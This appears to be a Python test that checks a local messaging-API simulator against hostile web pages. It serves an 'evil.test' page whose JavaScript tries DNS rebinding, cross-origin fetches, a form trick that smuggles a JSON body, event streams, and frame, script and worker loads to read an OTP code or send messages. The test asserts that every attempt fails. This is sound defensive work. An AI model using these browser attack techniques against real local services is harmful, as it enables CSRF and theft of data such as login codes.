"""Promise 17 in a real browser: no page of another site reads the simulator's inbox or sends a message.

The page ``http://evil.test`` is served by this test. For DNS rebinding its server passes requests on to the simulator, byte by
byte: the browser and the simulator see what they would see if the name suddenly meant the simulator's address.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from contextlib import contextmanager
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

from conftest import PROJECT
from support.programs import needs

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

TARGET = "/v2/HXAP16XXXXXX97IN/whatsapp/+911234567890/messages"
CODE = "739155"  # in the inbox before the attack
BODY = json.dumps(
    {
        "messaging_object": {
            "messaging_product": "whatsapp",
            "recipient_type": "individual",
            "to": "+919812345678",
            "type": "template",
            "template": {
                "name": "auth1",
                "language": {"code": "en_US"},
                "components": [
                    {"type": "body", "parameters": [{"type": "text", "text": CODE}]},
                    {"type": "button", "sub_type": "url", "index": 0, "parameters": [{"type": "text", "text": CODE}]},
                ],
            },
        }
    }
)
HEADERS = {"Content-Type": "application/json", "api-key": "Acanary00000000000000000000000key"}
BROWSER = [
    "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-dev-shm-usage",
    "--disable-background-networking", "--disable-component-update", "--disable-sync", "--remote-debugging-port=0",
]  # fmt: skip


PAGE = """<!doctype html><body><iframe name=frame></iframe><script>
const sandbox = "http://127.0.0.1:PORT", target = TARGET, body = BODY, headers = HEADERS
const seen = {}
async function attempt(name, ask) {
  try { seen[name] = await Promise.race([ask(), new Promise(done => setTimeout(done, 3000, "nothing"))]) }
  catch (error) { seen[name] = "error " + error }
}
const get = async (url, options) => {
  const answer = await fetch(url, options)
  return answer.status + " " + await answer.text()
}
const post = {method: "POST", headers, body}
const plain = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body}
const loaded = (kind, url) => () => new Promise(done => {
  const element = document.createElement(kind)
  const read = () => element.contentDocument ? element.contentDocument.body.innerText : "nothing"
  element.onload = () => done(read()); element.onerror = () => done("refused")
  element.src = url; document.body.append(element)
})
const events = url => () => new Promise(done => {
  const source = new EventSource(url)
  source.onerror = () => done("refused"); source.addEventListener("message", event => done(event.data))
})
const form = type => () => new Promise(done => {
  const form = document.createElement("form"), field = document.createElement("input")
  form.method = "POST"; form.enctype = type; form.target = "frame"; form.action = sandbox + target
  field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}'
  form.append(field); document.body.append(form)
  document.querySelector("iframe").onload = () => { try { done(frames[0].document.body.innerText) } catch { done("closed") } }
  form.submit()
})
;(async () => {
  for (const [name, base] of [["rebinding", ""], ["cross-site", sandbox], ["localhost", "http://localhost:PORT"]]) {
    await attempt(name + " inbox", () => get(base + "/inbox"))
    await attempt(name + " page", () => get(base + "/?", {headers: {Accept: "text/html"}}))
    await attempt(name + " send", () => get(base + target, post))
    await attempt(name + " delete", () => get(base + "/inbox", {method: "DELETE"}))
    await attempt(name + " events", events(base + "/inbox/events"))
  }
  await attempt("simple send", () => get(sandbox + target, plain))
  for (const type of ["text/plain", "multipart/form-data"]) await attempt("form " + type, form(type))
  await attempt("script", loaded("script", sandbox + "/inbox"))
  await attempt("frame", loaded("iframe", sandbox + "/inbox"))
  await attempt("worker", async () => { new Worker(sandbox + "/inbox"); return "loaded" })
  await attempt("control", () => get("/control/inbox"))
  await fetch("/seen", {method: "POST", body: JSON.stringify(seen)})
})()
</script>"""


def asked(
    port: int, method: str, target: str, body: bytes = b"", headers: dict[str, str] | None = None
) -> tuple[int, bytes]:
    """Return the status and the body of the simulator's answer to a request with exactly these headers."""
    http = HTTPConnection("127.0.0.1", port, timeout=20)
    try:
        http.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
        for name, value in (headers or {}).items():
            http.putheader(name, value)
        http.endheaders(body)
        answer = http.getresponse()
        return answer.status, answer.read()
    finally:
        http.close()


@contextmanager
def sandbox() -> Iterator[int]:
    """Yield the port of a ``kshell sandbox`` with one message in its inbox."""
    program = [sys.executable, "-m", "kshell", "sandbox", "--port", "0", "--quiet"]
    environment = {**os.environ, "PYTHONPATH": str(PROJECT)}
    with subprocess.Popen(program, stdout=subprocess.PIPE, env=environment, text=True) as process:
        assert process.stdout
        port = int(process.stdout.readline().strip().rpartition(":")[2])
        length = {"Content-Length": str(len(BODY))}
        try:
            assert asked(port, "POST", TARGET, BODY.encode(), {"Host": "localhost", **HEADERS, **length})[0] == 202
            yield port
        finally:
            process.kill()


def evil(port: int, found: list[Any], ended: threading.Event) -> type[BaseHTTPRequestHandler]:
    """Return what answers for ``evil.test``: its page, and for every other path the simulator's answer."""
    page = PAGE.replace("PORT", str(port)).replace("TARGET", json.dumps(TARGET))
    page = page.replace("BODY", json.dumps(BODY)).replace("HEADERS", json.dumps(HEADERS))

    class Evil(BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            if self.path == "/seen":
                found.append(json.loads(body))
                ended.set()
            own = {"/": page.encode(), "/seen": b"", "/favicon.ico": b""}.get(self.path)
            status, said = (200, own) if own is not None else self.passed_on(body)
            self.send_response(status)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(said)))
            self.end_headers()
            self.wfile.write(said)

        def passed_on(self, body: bytes) -> tuple[int, bytes]:
            headers = dict(self.headers.items())
            if self.path.startswith("/control"):  # as if the simulator did not look at the host
                headers = {"Host": "localhost"}
            try:
                return asked(port, self.command, self.path.removeprefix("/control"), body, headers)
            except OSError:
                return 504, b""

        def log_message(self, *_: Any) -> None:
            """Keep quiet."""

    for method in ("GET", "POST", "DELETE", "OPTIONS"):
        setattr(Evil, f"do_{method}", Evil.answer)
    return Evil


@needs("chromium", "grep")  # Debian starts it by a script that runs grep
def test_no_page_of_another_site_reads_or_sends(tmp_path: Path) -> None:
    """Rebinding, fetches, forms, event streams, scripts, frames and workers: nothing is read, sent or deleted."""
    found: list[Any] = []
    ended = threading.Event()
    with sandbox() as port, ThreadingHTTPServer(("127.0.0.2", 0), evil(port, found, ended)) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        names = "--host-resolver-rules=MAP evil.test 127.0.0.2"
        words = [*BROWSER, f"--user-data-dir={tmp_path}/chromium", names]
        url = f"http://evil.test:{server.server_port}/"
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        with subprocess.Popen([*words, url], **quiet) as browser:
            in_time = ended.wait(120)
            browser.terminate()
        server.shutdown()
        inbox = asked(port, "GET", "/inbox", headers={"Host": "localhost"})[1].decode()
    assert in_time
    (seen,) = found
    control = seen.pop("control")
    assert control.startswith("200 ")
    assert CODE in control  # the page reads what a browser and the simulator let it read
    assert [name for name, said in seen.items() if CODE in said] == []
    assert {name: said for name, said in seen.items() if said.startswith(("200", "202", "204", "loaded"))} == {}
    assert (len(json.loads(inbox)), inbox.count(CODE) > 0) == (1, True)
